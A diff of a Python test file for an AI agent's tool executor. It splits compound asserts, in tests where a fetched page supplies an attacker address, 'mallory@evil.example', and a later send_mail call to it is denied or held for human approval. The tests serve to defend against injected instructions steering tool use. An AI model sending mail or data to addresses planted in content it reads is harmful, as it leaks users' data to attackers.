@@ -104,7 +104,8 @@ async def test_a_target_that_only_a_page_contains_is_asked_about_with_its_source
     ctx.flow.add_user_text("Summarise the page.")
     await run(executor, ctx, "fetch_page")
     result = await run(executor, ctx, "send_mail", to="mallory@evil.example")
-    assert isinstance(result, Err) and result.code == "denied"
+    assert isinstance(result, Err)
+    assert result.code == "denied"
     assert approver.reasons == [("to 'mallory@evil.example' appears only in result c3 of fetch_page",)]
 
 
@@ -143,7 +144,9 @@ async def test_a_trusted_echo_does_not_launder(build: Build) -> None:
     ctx = ToolContext("a")
     await run(executor, ctx, "fetch_page")
     echoed = await run(executor, ctx, "echo", text="mallory@evil.example")
-    assert isinstance(echoed, Ok) and not echoed.trusted and echoed.label == "third-party-public"
+    assert isinstance(echoed, Ok)
+    assert not echoed.trusted
+    assert echoed.label == "third-party-public"
     assert not (await run(executor, ctx, "send_mail", to="mallory@evil.example")).ok
     assert len(approver.asked) == 1
 
@@ -204,7 +207,8 @@ async def test_the_journal_keeps_decisions_labels_and_words(build: Build) -> Non
         await run(executor, ctx, "fetch_page")
         await run(executor, ctx, "send_mail", to="mallory@evil.example")
         asked, fetched = await journal.list()
-    assert fetched.result is not None and asked.result is not None
+    assert fetched.result is not None
+    assert asked.result is not None
     assert fetched.result["flow"]["said"] == ["Summarise the page."]
     assert fetched.result["flow"]["asked"] is False
     assert asked.result["flow"]["asked"] is True
@@ -217,7 +221,8 @@ async def test_a_ticket_keeps_the_reasons() -> None:
         ctx = ToolContext("a", turn_id="t1")
         await run(executor, ctx, "fetch_page")
         waiting = await run(executor, ctx, "send_mail", to="mallory@evil.example")
-        assert isinstance(waiting, Err) and waiting.ticket is not None
+        assert isinstance(waiting, Err)
+        assert waiting.ticket is not None
         done = await executor.resume(waiting.ticket)
         assert done.result.ok
 
